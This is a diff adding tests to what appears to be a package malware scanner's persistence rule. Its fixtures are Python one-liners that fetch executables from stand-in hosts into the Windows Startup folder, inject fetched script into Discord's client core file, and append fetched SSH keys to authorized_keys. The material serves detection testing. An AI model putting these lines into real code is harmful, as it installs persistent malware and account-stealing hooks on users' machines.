@@ -364,3 +364,46 @@ test('a copy is where it ends up, not where it comes from', async () => {
   expect(await inspect('persistence', placed)).toMatchObject([{ class: 'malware' }]);
   expect(await inspect('persistence', named)).toMatchObject([{ class: 'malware' }]);
 });
+
+describe('on call', () => {
+  const calling = (...lines: string[]): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import os, shutil, requests, urllib.request',
+        'def run(source=None):',
+        ...lines.map((line) => `    ${line}`),
+      ),
+    });
+  const STARTUP = "os.getenv('APPDATA') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\a.exe'";
+  const CLIENT = "os.getenv('LOCALAPPDATA') + '\\\\Discord\\\\modules\\\\discord_desktop_core\\\\index.js'";
+
+  test.each([
+    ['what was fetched', `open(${STARTUP}, 'wb').write(requests.get('https://get.tools.invalid/a.exe').content)`],
+    [
+      'a copy of what was fetched',
+      `urllib.request.urlretrieve('https://get.tools.invalid/a.exe', '/x/a.exe'); shutil.copy('/x/a.exe', ${STARTUP})`,
+    ],
+    [
+      "fetched code in a messenger's client",
+      `open(${CLIENT}, 'w').write(requests.get('https://get.tools.invalid/i.js').text.replace('%HOOK%', 'x'))`,
+    ],
+  ])('%s is malware where programs start by themselves', async (_what, line) => {
+    expect(await inspect('persistence', calling(line))).toMatchObject([{ class: 'malware', score: 10 }]);
+  });
+
+  test.each([
+    ['a program of the caller', `shutil.copy(source, ${STARTUP})`],
+    [
+      'public keys that were fetched',
+      "open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(requests.get('https://keys.tools.invalid/me').text)",
+    ],
+    [
+      'a fetched program elsewhere',
+      "open('/opt/a.exe', 'wb').write(requests.get('https://get.tools.invalid/a').content)",
+    ],
+  ])('%s is not', async (_what, line) => {
+    const findings = await inspect('persistence', calling(line));
+
+    expect(findings.filter(({ score }) => score > 4)).toEqual([]);
+  });
+});
